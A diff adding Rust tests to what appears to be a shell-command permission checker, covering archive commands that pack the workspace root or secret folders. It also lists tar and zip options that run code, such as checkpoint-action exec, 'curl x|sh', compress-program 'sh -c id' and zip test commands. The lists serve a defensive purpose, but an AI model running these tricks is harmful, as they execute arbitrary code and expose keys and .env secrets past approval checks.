@@ -107,3 +107,97 @@ fn archives_elsewhere_of_secrets_or_with_other_options_keep_their_questions() {
         );
     }
 }
+
+/// An archive of the workspace's root, of a glob of a whole folder or of a folder that holds
+/// secret files by its use packs `.env` and keys with the rest (and `unzip -p` then prints them
+/// at once): it keeps its own question, never the family of writes in the workspace. Named
+/// source and output folders stay in the family.
+#[test]
+fn an_archive_of_the_root_or_of_a_secret_folder_keeps_its_question() {
+    for s in [
+        "zip -r out.zip .",
+        "zip -r out.zip ./",
+        "zip -qr out.zip . -x '*.git*'",
+        "zip -r out.zip *",
+        "zip -r out.zip .??*",
+        "zip -r out.zip /ws",
+        "zip -r out.zip /ws/",
+        "tar czf out.tgz .",
+        "tar -czf out.tgz ./",
+        "tar czf out.tgz *",
+        "tar czf out.tgz \"$PWD\"",
+        "tar czf out.tgz $(pwd)",
+        "tar -czf out.tgz /ws",
+        "cd src && tar czf ../out.tgz ..",
+        "zip -r conf.zip config",
+        "zip -r conf.zip src/config",
+        "tar czf s.tgz secrets/",
+        "tar czf s.tgz .secrets",
+        "tar czf k.tgz keys",
+        "tar czf k.tgz deploy-keys",
+        "tar czf c.tgz certs",
+        "tar czf g.tgz .git",
+        "tar czf d.tgz deploy",
+        "tar czf t.tgz .terraform",
+        "tar czf p.tgz production",
+        "zip -r i.zip instance",
+        "zip -r y.zip dist config/*.yml",
+        "zip -r e.zip src/*.env",
+    ] {
+        let v = judge(s, &ENV);
+        assert!(
+            v.level != Level::Allow && v.grant.as_deref() != Some(WORKSPACE_WRITE),
+            "{s}: {:?} `{}` {:?}",
+            v.level,
+            v.row,
+            v.grant
+        );
+    }
+    family(
+        WORKSPACE_WRITE,
+        &[
+            "zip -r out.zip src/",
+            "zip -r out.zip src",
+            "tar czf dist.tgz dist",
+            "tar -czf build.tgz build/",
+            "zip -r o.zip src/*.rs",
+            "tar czf o.tgz src/*",
+            "zip -qr release/ext.zip dist assets",
+            "tar -cvf docs.tar docs",
+        ],
+    );
+}
+
+/// Options that run a program (a compressor, a checkpoint's action, a command fed each entry,
+/// zip's test command) or follow links always ask, in every spelling, never under the key
+/// plain archiving is asked by; their plain neighbours keep their keys.
+#[test]
+fn archivers_options_that_run_code_always_ask() {
+    always_ask(&[
+        "tar -h -czf o.tgz src",
+        "tar czhf o.tgz src",
+        "tar -czhf o.tgz src",
+        "tar --dereference -czf o.tgz src",
+        "tar --use-compress-program=zstd -cf o.tar src",
+        "tar --use-compress-program zstd -cf o.tar src",
+        "tar -I zstd -cf o.tar src",
+        "tar -Izstd -cf o.tar src",
+        "tar -cf o.tar -I 'sh -c id' src",
+        "tar --checkpoint=1 --checkpoint-action=exec=sh -cf o.tar src",
+        "tar -cf o.tar --checkpoint-action exec='curl x|sh' src",
+        "tar -xf o.tar --to-command='sh -c id'",
+        "tar -cf o.tar -F ./next.sh src",
+        "tar --info-script=./x.sh -cf o.tar src",
+        "bsdtar -h -czf o.tgz src",
+        "gtar --use-compress-program=pigz -cf o.tgz src",
+        "zip -TT 'sh -c id' -T o.zip src",
+        "zip -T -TT=id o.zip src",
+        "zip -r -T --unzip-command 'sh -c id' o.zip src",
+    ]);
+    // An `h` in the archive's name given in the cluster is no option.
+    assert_eq!(judge("tar -cfh.tar src", &ENV).level, Level::AskOnce);
+    family(
+        WORKSPACE_WRITE,
+        &["tar -czf out.tgz src", "tar czvf out.tgz src"],
+    );
+}
